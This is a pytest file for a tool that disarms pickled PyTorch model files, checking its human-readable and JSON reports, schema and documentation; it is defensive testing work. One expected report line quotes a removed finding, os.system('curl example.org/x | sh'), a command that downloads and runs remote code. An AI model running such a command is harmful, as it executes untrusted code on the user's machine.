"""The report of a disarmed file: what it says to people, and to programs."""

from __future__ import annotations

import json
import re
import tomllib
from pathlib import Path

import pytest
import torch
from jsonschema import Draft202012Validator, ValidationError

import safemodel
from safemodel import Scrub, disarm
from safemodel.reports import DisarmReport, KeptOpaque, KeptTensor, LeftBehind
from tests.unit.disarm.helpers_disarm import saved
from tests.unit.disarm.helpers_report import CALL, NAMED, folder, hostile, made_up
from tests.unit.scan.helpers_scan import EVIL

SCHEMA = json.loads(
    (Path(safemodel.__file__).parent / "_report/disarm-report.schema.json").read_text()
)


def problems(members: object) -> list[ValidationError]:
    """Return what a report's JSON form breaks of the schema."""
    return list(Draft202012Validator(SCHEMA).iter_errors(members))


def test_a_report_says_what_was_read_written_removed_and_kept():
    """The verdict last, where a terminal leaves off."""
    assert str(made_up()).splitlines() == [
        "before       downloads/detector.pt: torch zip archive, 96.0 KiB",
        "  sha256     " + "a1" * 32,
        "after        clean/detector.pt: torch zip archive, 64.0 KiB",
        "  sha256     " + "c3" * 32,
        "removed      1 call and 1 name",
        (
            "  danger  would call os.system('curl example.org/x | sh')"
            "  [archive/data.pkl@187 REDUCE]"
        ),
        "  info    names yolo.Model  [archive/data.pkl@12345 GLOBAL]",
        "anomalies    1",
        (
            "  warning two records of one name: readers differ in which one they take"
            "  [archive/data.pkl]"
        ),
        "notes        1",
        "  info    a note  [a/b]",
        "left behind  2 things",
        "  record archive/.cache/run.sh: nothing in the file refers to it, 1.2 KiB",
        "  slack: outside of any record, 31 bytes",
        "opaque       yolo.Model (1)",
        "plain data   yolo.Model (1), set (2)",
        (
            "1 call and 1 name removed; 18 tensors kept bit for bit;"
            " 2 things left behind (1.2 KiB); 3 values became plain data."
        ),
    ]


def test_models_that_were_refused_are_named_in_the_last_line():
    """Who reads nothing else learns that weights are missing."""
    refused = LeftBehind(kind="refused", name="bad.pt", size=11, why="broken")
    counted = LeftBehind(kind="attribute", name="torch.Tensor", size=0, why="3 of them")
    *_, attribute, last = str(
        made_up(left_behind=(refused, counted), opaque=(), changed={})
    ).splitlines()

    assert attribute == "  attribute torch.Tensor: 3 of them"
    assert last.endswith("2 things left behind (11 bytes), 1 refused.")


def test_a_long_report_is_cut():
    """Twenty findings of any kind, five things left behind, and how many more."""
    report = made_up(
        removed=(CALL,) * 23, left_behind=made_up().left_behind * 4,
        opaque=(KeptOpaque(path="a", name="b"),) * 3,
        changed={f"kind{at}": 1 for at in range(9)},
    )  # fmt: skip
    text = str(report)
    assert text.count("would call os.system") == 20
    assert text.count("  ... 3 more; the JSON report has all") == 2
    assert "two records of one name" not in text
    assert text.count("  ... 1 more; the JSON report has all") == 2
    assert "kind4 (1) and 4 more kinds" in text
    assert "opaque       b (3)" in text
    assert "23 calls removed" in text


def test_what_is_removed_is_counted_by_what_it_is():
    """Calls, names, fields that load code, and findings about the rest."""
    field = type(CALL)(**{**vars(CALL), "code": "code-field", "opcode": ""})
    more = type(CALL)(**{**vars(CALL), "opcode": "", "arguments": ""})
    assert str(made_up(removed=(CALL, CALL, NAMED, field, more))).endswith(
        "2 calls, 1 name, 1 field that loads code and 1 other finding removed; 18"
        " tensors kept bit for bit; 2 things left behind (1.2 KiB); 3 values became"
        " plain data."
    )


def test_the_report_of_a_folder_has_a_line_a_file():
    """And counts what its files say, at any depth."""
    lines = str(folder()).splitlines()
    assert lines[:2] == [
        "before       hub: a folder, 192.0 KiB",
        "after        out: folder, 192.0 KiB",
    ]
    assert lines[2] == "files        3"
    assert lines[3] == (
        "  out/a.safetensors: No call and no name to remove; 18 tensors kept bit for"
        " bit."
    )
    assert lines[-1].startswith("1 call and 3 names removed; 72 tensors kept bit for")


def test_no_name_of_a_file_acts_on_a_terminal():
    """Whatever is hostile is escaped."""
    assert all(line.isprintable() for line in str(hostile()).splitlines())


@pytest.mark.parametrize("report", [made_up(), hostile(), folder()])
def test_a_report_comes_back_from_its_json(report):
    """All of it, parts of parts included."""
    assert DisarmReport.from_dict(json.loads(report.to_json())) == report


def test_a_report_of_another_schema_is_not_guessed_at():
    """Nor that of a part."""
    members = made_up().to_dict()
    with pytest.raises(ValueError, match="schema 1"):
        DisarmReport.from_dict({**members, "schema": 2})
    with pytest.raises(ValueError, match="schema 1"):
        DisarmReport.from_dict({**members, "parts": [{**members, "schema": 2}]})


def real_reports(tmp_path: Path) -> list[DisarmReport]:
    """Return reports of a hostile file, of an object, and of one that is scrubbed."""
    module = saved({"model": torch.nn.Linear(2, 2), "kinds": {1, 2}})
    return [
        disarm(EVIL, tmp_path / "evil.pt"),
        disarm(module, tmp_path / "module.safetensors"),
        disarm(module, tmp_path / "scrubbed.npz", scrub=Scrub()),
    ]


def test_reports_keep_to_their_schema(tmp_path):
    """Real ones, and made-up ones that have everything."""
    reports = real_reports(tmp_path)
    assert reports[0].removed
    assert reports[1].changed
    assert reports[2].tensors[0].scrubbed_bits
    Draft202012Validator.check_schema(SCHEMA)
    for report in (*reports, made_up(), folder()):
        assert problems(json.loads(report.to_json())) == []


@pytest.mark.parametrize(
    "wrong",
    [
        {"schema": 2},
        {"removed": [{"severity": "high"}]},
        {"removed": None},
        {"source": {"size": -1, "sha256": "", "blake3": ""}},
        {"result": {"size": 1, "sha256": "xyz", "blake3": ""}},
        {"tensors": [{"name": "w", "dtype": "float32", "shape": [-1]}]},
        {"left_behind": [{"kind": "record"}]},
        {"opaque": [{"path": "a"}]},
        {"changed": {"set": 0}},
        {"parts": [{}]},
        {"out_format": "exe"},
        {"seconds": "1"},
    ],
)
def test_what_is_no_report_breaks_the_schema(wrong):
    """One member that is not as described."""
    assert problems({**made_up().to_dict(), **wrong})


def test_the_schema_asks_for_every_member_there_is():
    """Of the report and of what it holds; a new one must be described."""
    report = SCHEMA["$defs"]["report"]
    members = made_up().to_dict()
    assert set(report["required"]) == set(report["properties"]) == set(members)
    for name in ("tensors", "left_behind", "opaque"):
        item = report["properties"][name]["items"]
        assert set(item["required"]) == set(item["properties"]) == set(members[name][0])
    for name, member in (("finding", "removed"), ("file", "source")):
        one = SCHEMA["$defs"][name]
        found = members[member]
        expected = set(found[0] if isinstance(found, list) else found)
        assert set(one["required"]) == set(one["properties"]) == expected


def described(schema: object) -> set[str]:
    """Return the names of all members a schema describes, at any depth."""
    if isinstance(schema, list):
        return set().union(*map(described, schema))
    if not isinstance(schema, dict):
        return set()
    found = set(schema.get("properties", ()))
    return found.union(*(described(value) for value in schema.values()))


def test_the_documentation_has_every_member_and_no_other():
    """The tables below its heading, and the schema."""
    page = (Path(__file__).parents[3] / "docs/disarm.md").read_text(encoding="utf-8")
    section = page.split("### JSON\n")[1].split("\n### ")[0]
    tables = re.split(r"\n\n+", section)
    named: set[str] = set()
    for table in tables:
        if table.startswith("| member"):
            named.update(*(re.findall(r"`(\w+)`", row.split("|")[1])
                           for row in table.splitlines()))  # fmt: skip
        elif table.startswith("| of"):
            named.update(*(re.findall(r"`(\w+)`", row.split("|")[2])
                           for row in table.splitlines()))  # fmt: skip
    assert named == described(SCHEMA)


def test_what_the_page_is_made_from_is_shipped():
    """Whatever in the package is not Python is declared as its data."""
    root = Path(__file__).parents[3]
    declared = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))
    patterns = declared["tool"]["setuptools"]["package-data"]
    shipped = {
        path
        for package, globs in patterns.items()
        for glob in globs
        for path in (root / package.replace(".", "/")).glob(glob)
    }
    others = {
        path
        for path in (root / "safemodel").rglob("*.*")
        if path.is_file() and path.suffix not in (".py", ".pyc")
    }
    assert others == shipped
    assert {"disarm.html", "disarm-report.schema.json"} < {one.name for one in others}


def test_numbers_of_a_tensor_are_plain_json():
    """A shape is a list."""
    kept = KeptTensor(name="w", dtype="float32", shape=(2, 3), scrubbed_bits=12)
    assert made_up(tensors=(kept,)).to_dict()["tensors"] == [
        {"name": "w", "dtype": "float32", "shape": [2, 3], "scrubbed_bits": 12}
    ]
